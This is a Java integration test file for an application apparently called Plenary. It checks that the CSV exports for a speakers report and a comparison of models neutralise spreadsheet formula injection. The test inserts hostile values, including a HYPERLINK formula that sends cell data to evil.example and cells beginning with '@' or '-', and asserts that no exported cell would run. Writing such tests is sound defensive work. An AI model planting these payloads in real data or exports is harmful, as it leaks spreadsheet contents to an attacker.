package org.plenary.system;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.plenary.PlenaryIntegrationTest;
import org.plenary.delegation.DelegationCode;
import org.plenary.delegation.Delegations;
import org.plenary.delegation.NewGroup;
import org.plenary.identity.Actors;
import org.plenary.positions.Composition;
import org.plenary.positions.ExistingVeto;
import org.plenary.positions.NewMembersVeto;
import org.plenary.positions.NewModel;
import org.plenary.positions.NewRevision;
import org.plenary.positions.ReElection;
import org.plenary.positions.ReformModels;
import org.plenary.process.NewProcess;
import org.plenary.process.Processes;
import org.plenary.schedule.MeetingMode;
import org.plenary.schedule.PlanMeetings;
import org.plenary.schedule.Programme;
import org.plenary.schedule.StandardSlot;
import org.plenary.speakers.InscriptionKind;
import org.plenary.speakers.SpeakersLists;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

/**
 * Every CSV Plenary exports, with names a hostile delegation or facilitator chose: no
 * cell that a spreadsheet would run as a formula. The cells are read back with a reader
 * of RFC 4180 written here, not with the code that wrote them.
 */
@PlenaryIntegrationTest
class CsvExportsTests {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

	@Autowired
	@Qualifier("requestMappingHandlerMapping")
	RequestMappingHandlerMapping mappings;

	@Autowired
	MockMvc mvc;

	@Autowired
	Delegations delegations;

	@Autowired
	Processes processes;

	@Autowired
	Programme programme;

	@Autowired
	SpeakersLists speakers;

	@Autowired
	ReformModels models;

	@Test
	void everyCsvRouteIsTriedHere() {
		var routes = new TreeSet<String>();
		this.mappings.getHandlerMethods()
			.forEach((info, handler) -> info.getPatternValues()
				.stream()
				.filter((pattern) -> pattern.endsWith(".csv")
						|| info.getProducesCondition().getProducibleMediaTypes().toString().contains("csv"))
				.forEach(routes::add));
		assertThat(routes).containsExactlyInAnyOrder("/api/meetings/{id}/speakers/report.csv",
				"/api/models/compare.csv");
	}

	@Test
	void theSpeakersReportCarriesNoFormula() throws Exception {
		var group = this.delegations
			.createGroup(new NewGroup("@SUM(1+1)" + UUID.randomUUID().toString().substring(0, 4), "-2+3 " + FORMULA,
					null, null, List.of(DelegationCode.of("MEX"))), Actors.administrator());
		var process = this.processes.create(
				new NewProcess("Csv " + UUID.randomUUID().toString().substring(0, 8), "Consultations", null, null),
				Actors.administrator());
		var meeting = this.programme
			.plan(new PlanMeetings(process.id(), List.of(LocalDate.of(2036, 3, 5)), List.of(StandardSlot.MORNING), null,
					null, "informal meeting", null, MeetingMode.IN_PERSON, List.of(), null, null, null, null, true,
					true, null), Actors.administrator())
			.meeting()
			.id();
		this.speakers.open(meeting, Actors.administrator());
		this.speakers.inscribe(meeting, "MEX", group.shortName(), InscriptionKind.STATEMENT, Actors.administrator());
		this.speakers.next(meeting, Actors.administrator());
		this.speakers.stop(meeting, Actors.administrator());

		var cells = cellsOf("/api/meetings/" + meeting + "/speakers/report.csv");

		assertThat(cells).anySatisfy((cell) -> assertThat(cell).contains("@SUM(1+1)"));
		assertThat(cells).allSatisfy(CsvExportsTests::isNoFormula);
	}

	@Test
	void theComparisonOfModelsCarriesNoFormula() throws Exception {
		var process = this.processes.create(
				new NewProcess("Csv " + UUID.randomUUID().toString().substring(0, 8), "Consultations", null, null),
				Actors.administrator());
		var model = this.models.submit(new NewModel(process.id(), FORMULA, "BRA",
				new NewRevision(null, LocalDate.of(2025, 11, 2), Composition.TODAY.counts(), NewMembersVeto.NOT_STATED,
						ExistingVeto.KEEP, null, null, ReElection.NOT_STATED, null, null, null, "+" + FORMULA, null,
						null)),
				Actors.administrator());

		var cells = cellsOf("/api/models/compare.csv?ids=today," + model.id());

		assertThat(cells).anySatisfy((cell) -> assertThat(cell).contains("HYPERLINK"));
		assertThat(cells).allSatisfy(CsvExportsTests::isNoFormula);
	}

	@Test
	void keepsNumbersAsNumbersAndQuotesWhatMustBe() {
		assertThat(Csv.line(List.of("-3", "12.5", "=1+1", "a,b", "say \"no\"", "\tx")))
			.isEqualTo("-3,12.5,\"'=1+1\",\"a,b\",\"say \"\"no\"\"\",\"'\tx\"\r\n");
	}

	private static void isNoFormula(String cell) {
		if (!cell.matches("-?\\d+(\\.\\d+)?")) {
			assertThat(cell).as("a cell a spreadsheet would run")
				.doesNotStartWith("=")
				.doesNotStartWith("+")
				.doesNotStartWith("-")
				.doesNotStartWith("@")
				.doesNotStartWith("\t")
				.doesNotStartWith("\r");
		}
	}

	private List<String> cellsOf(String path) throws Exception {
		var response = this.mvc.perform(get(path)).andReturn().getResponse();
		assertThat(response.getStatus()).isEqualTo(200);
		assertThat(response.getContentType()).startsWith("text/csv");
		return parse(response.getContentAsString(StandardCharsets.UTF_8));
	}

	/** RFC 4180, read the way a spreadsheet reads it. */
	static List<String> parse(String csv) {
		var cells = new ArrayList<String>();
		var cell = new StringBuilder();
		boolean quoted = false;
		for (int i = 0; i < csv.length(); i++) {
			char c = csv.charAt(i);
			if (quoted) {
				if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
					cell.append('"');
					i++;
				}
				else if (c == '"') {
					quoted = false;
				}
				else {
					cell.append(c);
				}
			}
			else if (c == '"' && cell.isEmpty()) {
				quoted = true;
			}
			else if (c == ',' || c == '\n') {
				cells.add(cell.toString());
				cell.setLength(0);
			}
			else if (c != '\r') {
				cell.append(c);
			}
		}
		if (!cell.isEmpty()) {
			cells.add(cell.toString());
		}
		return cells;
	}

}
